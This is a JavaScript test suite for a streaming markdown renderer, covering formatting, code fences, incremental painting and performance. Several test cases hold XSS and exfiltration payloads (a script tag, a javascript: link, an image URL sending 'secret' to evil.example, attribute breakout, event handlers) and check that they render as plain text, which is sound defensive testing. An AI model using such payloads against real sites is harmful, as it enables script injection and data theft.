import assert from 'node:assert/strict';
import { test } from 'node:test';
import { TextRenderer } from '../render.js';
import { fakeDocument, outline } from './fake-document.js';

/** Renders the pieces, painted after each as a frame would, and checks that only the allowed elements were ever made. */
function render(pieces, { finish = true } = {}) {
  const doc = fakeDocument();
  const container = doc.createElement('div');
  const renderer = new TextRenderer(container, doc);
  for (const piece of pieces) {
    renderer.append(piece);
    renderer.paint();
  }
  if (finish)
    renderer.finish();
  for (const { name, className } of doc.made) {
    assert.ok(['div', 'p', 'pre', 'code', 'strong', 'span'].includes(name), name);
    assert.ok(['', 'code', 'language', 'open'].includes(className), className);
  }
  return { container, doc, outline: container.childNodes.map(outline).join(' ') };
}

const shapes = [
  ['Paragraphs end at a blank line and keep their line breaks', 'a\nb\n\n\nc', 'p("a\\nb") p("c")'],
  ['Bold and inline code', 'a **b `c`** `d**e**` f', 'p("a " strong("b " code("c")) " " code("d**e**") " f")'],
  ['A double backtick holds a single one', '``a`b``', 'p(code("a`b"))'],
  ['Marks without a partner stay as they are', 'a ** b **c `d', 'p("a ** b **c `d")'],
  ['A fence with a language', 'x\n```js\nlet a;\n\n**b**\n```\ny', 'p("x") pre(span("js") code("let a;\\n\\n**b**\\n")) p("y")'],
  ['A fence without an end is code', '```\na', 'pre(code("a\\n"))'],
  ['A longer fence holds a shorter one', '````\n```\n````', 'pre(code("```\\n"))'],
  ['CRLF is a line end', 'a\r\n```\r\nb\r\n```\r\n', 'p("a") pre(code("b\\n"))'],
  ['A script is text', '<script>alert(1)</script>', 'p("<script>alert(1)</script>")'],
  ['A link to a script is text', '[x](javascript:alert(1))', 'p("[x](javascript:alert(1))")'],
  ['An image that would carry data away is text', '![x](https://evil.example/?q=secret)', 'p("![x](https://evil.example/?q=secret)")'],
  ['A language that would break out of its element is text', '```"><img/src=x>\na\n```', 'pre(span("\\"><img/src=x>") code("a\\n"))'],
  ['An event handler in bold and code is text', '**<b onclick=x>** `<svg onload=x>`', 'p(strong("<b onclick=x>") " " code("<svg onload=x>"))'],
];

for (const [name, text, expected] of shapes) {
  test(name, () => {
    assert.equal(render([text]).outline, expected);
    assert.equal(render([...text]).outline, expected, 'one character a frame');
  });
}

test('A fence that is still open shows its code while it streams, and the marks never flash up', () => {
  const doc = fakeDocument();
  const container = doc.createElement('div');
  const renderer = new TextRenderer(container, doc);
  const seen = [];
  for (const piece of ['`', '`', '`', 'p', 'y', '\n', 'a = 1', '\n', '``', '`', '\n']) {
    renderer.append(piece);
    renderer.paint();
    seen.push(container.textContent);
  }
  assert.deepEqual(seen, ['', '', '', '', '', 'py', 'pya = 1', 'pya = 1\n', 'pya = 1\n', 'pya = 1\n', 'pya = 1\n']);
});

test('Bold is bold before its end has come', () => {
  assert.equal(render(['a **b'], { finish: false }).outline, 'p(span("a " strong("b")))');
});

test('A token makes nodes for the last line only, however long the answer is', () => {
  const doc = fakeDocument();
  const renderer = new TextRenderer(doc.createElement('div'), doc);
  renderer.append('A **line** with `code`.\n'.repeat(5000));
  renderer.paint();
  const before = doc.made.length;
  for (let token = 0; token < 100; token++) {
    renderer.append('x');
    renderer.paint();
  }
  assert.ok(doc.made.length - before <= 200, `${doc.made.length - before} elements for 100 tokens`);
});

test('A line of nothing but marks is rendered in linear time', () => {
  for (const text of ['`'.repeat(7999), '` `` ``` '.repeat(880), '**a '.repeat(1990), '**'.repeat(3990)])
    assert.equal(render([text]).container.textContent.replaceAll(/[`* a]/g, ''), '');
});
